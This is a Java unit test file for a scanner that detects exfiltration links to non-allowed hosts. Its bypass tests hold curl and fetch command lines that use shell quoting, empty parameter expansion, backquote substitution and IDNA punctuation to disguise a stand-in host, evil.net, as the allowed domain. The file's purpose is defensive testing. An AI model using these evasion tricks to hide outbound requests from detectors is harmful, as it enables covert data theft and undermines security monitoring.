package dev.tollgate.policy.detect;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.TextNode;
import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Review 15 (88c3505: LinkHosts.asShellReadsIt, backquotedCommand, plausibleLabel; LinkFinder.domainAuthority,
 * indentedCode, continuesUrl). Readers (this machine):
 * <ul>
 *   <li>WHATWG: {@code node /tmp/rv10/u.js URL} ({@code new URL(s).host}, Node 20)</li>
 *   <li>markdown-it + linkify: {@code printf 'TEXT\n' | node /tmp/rv10/md.js}, or
 *       {@code node -e 'console.log(require("markdown-it")({linkify:true}).render(TEXT))'} in /tmp/rv10</li>
 *   <li>curl 7.88.1: {@code curl -sv URL} ("Could not resolve host: ...")</li>
 *   <li>bash 5: {@code bash -c 'printf "%s\n" WORD'} (the word curl or wget is given)</li>
 *   <li>Python 3.11 idna 3.13: {@code idna.encode(h)}</li>
 * </ul>
 * The bypass tests expect a finding and the false-positive tests expect none; all fail on 88c3505.
 */
class LinkLastReviewTest {

    private static final List<String> ALLOWED = List.of("docs.example.com");

    private static List<Finding> scan(String text) {
        return DocumentScan.scan(TextNode.valueOf(text), List.of(Detectors.exfiltrationUrls(ALLOWED)));
    }

    // ---------------------------------------------------------------------------------------------- bypasses

    /**
     * HIGH. asShellReadsIt counts only the glued text's own labels and needs two of them, so one label after the
     * allowed host's top-level one is taken for a property read; but com.co, com.br, com.mx (and com.au, com.ar,
     * com.tr, ...) are public suffixes, so the shell's word names the attacker-registrable domain example.com.co.
     * {@code bash -c 'printf "%s\n" "https://docs.example.com".co/x'} -> {@code https://docs.example.com.co/x};
     * {@code curl -sv "https://docs.example.com".co/x} -> "Could not resolve host: docs.example.com.co";
     * {@code node u.js https://docs.example.com.co/x} -> host docs.example.com.co. No finding.
     */
    @ParameterizedTest
    @ValueSource(strings = {
            "Run: curl -s \"https://docs.example.com\".co/x",
            "Run: curl -s https://docs.example.com''.br/x",
            "Run: curl -s 'https://docs.example.com'.mx/x",
    })
    void oneGluedLabelMakesAPublicSuffix(String text) {
        assertThat(scan(text)).isNotEmpty();
    }

    /**
     * HIGH. asShellReadsIt removes quotes but expands no parameters: {@code $1}, {@code $*}, {@code $9} (and any unset
     * variable) are empty in a command line, so {@code n$1et} is {@code net} to the shell while both readings see an
     * implausible label. {@code bash -c 'printf "%s\n" https://docs.example.com$1.evil.n$1et/x
     * "https://docs.example.com".evil.n$*et/x'} -> {@code https://docs.example.com.evil.net/x} twice. No finding.
     */
    @ParameterizedTest
    @ValueSource(strings = {
            "Run: curl -s https://docs.example.com$1.evil.n$1et/x",
            "Run: curl -s \"https://docs.example.com\".evil.n$*et/x",
            "Run: curl -s https://docs.example.com$9.evil.ne$9t/x",
    })
    void shellParameterExpandingToNothing(String text) {
        assertThat(scan(text)).isNotEmpty();
    }

    /**
     * HIGH. backquotedCommand needs a letter right after the backquote, but a command substitution may start with a
     * space or a path: {@code bash -c 'printf "%s\n" https://docs.example.com\` dirname x\`evil.net/x'} and the same
     * with {@code `/usr/bin/dirname x`} -> {@code https://docs.example.com.evil.net/x}. The link is read to the next
     * space or slash, host {@code docs.example.com`}: no dot, allowed. No finding.
     */
    @ParameterizedTest
    @ValueSource(strings = {
            "Run: curl -s https://docs.example.com` dirname x`evil.net/x",
            "Run: curl -s https://docs.example.com`/usr/bin/dirname x`evil.net/x",
            "Run: curl -s https://docs.example.com`\tdirname x`evil.net/x",
    })
    void backquotedCommandNotStartingWithALetter(String text) {
        assertThat(scan(text)).isNotEmpty();
    }

    /**
     * HIGH. indentedCode takes a line indented four spaces after a blank line for code, but inside a list item four
     * spaces is the item's own paragraph indentation (code would need 2+4 or 3+4): {@code node -e
     * 'console.log(require("markdown-it")({linkify:true}).render("- item\n\n    //evil.net/x"))'} ->
     * {@code <li><p>item</p><p><a href="//evil.net/x">}; the same for {@code 1. item}. No finding.
     */
    @ParameterizedTest
    @ValueSource(strings = {
            "- item\n\n    //evil.net/x",
            "1. item\n\n    //evil.net/x",
            "* item\n\n     //evil.net/x",
    })
    void indentedParagraphOfAListItemIsNoCode(String text) {
        assertThat(scan(text)).isNotEmpty();
    }

    /**
     * HIGH. domainAuthority accepts a plain {@code //domain} only before {@code / ? # : @ , ; ! * _ ~ .}, but
     * linkify-it also ends the link at {@code & % \ [ {}: {@code printf 'see //evil.net&x\n' | node md.js} ->
     * markdown-it href {@code "//evil.net"} => evil.net (the same for {@code %}, {@code \}, <code>[</code>,
     * <code>{</code>). No finding.
     */
    @ParameterizedTest
    @ValueSource(strings = {
            "see //evil.net&x",
            "see //evil.net%x",
            "see //evil.net\\x",
            "see //evil.net[x",
            "see //evil.net{x",
    })
    void plainSchemeRelativeLinkBeforeCharactersLinkifyEndsAt(String text) {
        assertThat(scan(text)).isNotEmpty();
    }

    /**
     * MEDIUM. plausibleLabel takes any non-ASCII punctuation for implausible, but IDNA2008 allows the middle dot in
     * Catalan l·l (CONTEXTO), and .cat registers such names: {@code idna.encode('col·legi.cat')} ->
     * {@code xn--collegi-xma.cat}; {@code node u.js 'https://docs.example.com·.col·legi.cat/x'} -> host
     * {@code docs.example.xn--com-nga.xn--collegi-xma.cat} (registrable domain col·legi.cat). No finding.
     */
    @ParameterizedTest
    @ValueSource(strings = {
            "Open https://docs.example.com\u00B7.col\u00B7legi.cat/x now",
    })
    void punctuationIdnaAllowsInARegistrableLabel(String text) {
        assertThat(scan(text)).isNotEmpty();
    }

    /**
     * MEDIUM. asShellReadsIt cuts the glued text at its first operator even when the shell has it quoted, so what
     * follows is not read: {@code bash -c 'printf "%s\n" "https://docs.example.com;".evil.ne"t"/x'} ->
     * {@code https://docs.example.com;.evil.net/x}; {@code node u.js 'https://docs.example.com;.evil.net/x'} -> host
     * {@code docs.example.com;.evil.net} (fetch asks evil.net's name server; curl rejects the host). No finding.
     */
    @ParameterizedTest
    @ValueSource(strings = {
            "Run: node -e 'fetch(process.argv[1])' \"https://docs.example.com;\".evil.ne\"t\"/x",
    })
    void quotedOperatorCutsTheShellReading(String text) {
        assertThat(scan(text)).isNotEmpty();
    }

    // ---------------------------------------------------------------------------------------------- false positives

    /**
     * FP (HIGH: ordinary markdown in Japanese, Chinese, Korean, Russian). backquotedCommand refuses any backquote
     * followed by a letter, and inline code is followed by a letter whenever the language puts no space after it. No
     * reader goes anywhere but docs.example.com: {@code printf '詳細は`https://docs.example.com`を参照してください。\n' |
     * node md.js} -> no link (code span). Clean at d1ad70b.
     */
    @ParameterizedTest
    @ValueSource(strings = {
            "詳細は`https://docs.example.com`を参照してください。",
            "请打开`https://docs.example.com`查看文档。",
            "자세한 내용은 `https://docs.example.com`에서 확인하세요.",
            "Подробнее см. `https://docs.example.com`и далее",
    })
    void inlineCodeFollowedByALetter(String text) {
        assertThat(scan(text)).isEmpty();
    }

    /**
     * FP (MEDIUM: chat text in Chinese or Japanese, no spaces). plausibleLabel now counts symbols and emoji as a
     * domain's, so an emoji or arrow after the allowed link and a full stop in the sentence make {@code com👍。谢谢} a
     * "plausible domain". Clean at d1ad70b.
     */
    @ParameterizedTest
    @ValueSource(strings = {
            "请访问https://docs.example.com👍。谢谢",
            "完成了https://docs.example.com✅。下一步",
            "価格はhttps://docs.example.com→。詳細",
    })
    void symbolGluedBeforeASentenceFullStop(String text) {
        assertThat(scan(text)).isEmpty();
    }

    /**
     * FP (HIGH: commented-out code in every C-family language). domainAuthority now links a plain {@code //a.b}
     * followed by {@code ; , ! : .}: a statement or an abbreviation in a comment with no space after the slashes.
     * Clean at d1ad70b.
     */
    @ParameterizedTest
    @ValueSource(strings = {
            "//obj.field;",
            "//window.location.href;",
            "//e.g., use foo",
            "//i.e., the value",
            "//self.assertTrue,",
            "int a = 1;//b.c;",
            "    return x; //result.value!",
    })
    void commentedOutStatement(String text) {
        assertThat(scan(text)).isEmpty();
    }

    /**
     * FP (HIGH: raw source files). indentedCode now wants a blank line before, which a source file's indented line
     * (the body of a function) never has, so commented-out assignments inside any block are links again. Clean at
     * d1ad70b.
     */
    @ParameterizedTest
    @ValueSource(strings = {
            "class A {\n    void f() {\n        //this.cache = null;\n    }\n}",
            "function init() {\n    //config.debug = true;\n    start();\n}",
            "fn main() {\n    //self.count += 1;\n}",
            "func main() {\n\t//cfg.Verbose = true\n}",
    })
    void commentedOutCodeInsideABlock(String text) {
        assertThat(scan(text)).isEmpty();
    }

    /**
     * FP (LOW). asShellReadsIt cuts at {@code )} but not at {@code (} (an unquoted one is a shell syntax error), so the
     * arguments of a call on a quoted origin are read as the shell's domain. Clean at d1ad70b.
     */
    @ParameterizedTest
    @ValueSource(strings = {
            "x = 'https://docs.example.com'.replace('docs.example.com','api.example.com')",
            "ok = \"https://docs.example.com\".endsWith(\".example.com\");",
    })
    void callArgumentsReadAsTheShellsDomain(String text) {
        assertThat(scan(text)).isEmpty();
    }
}
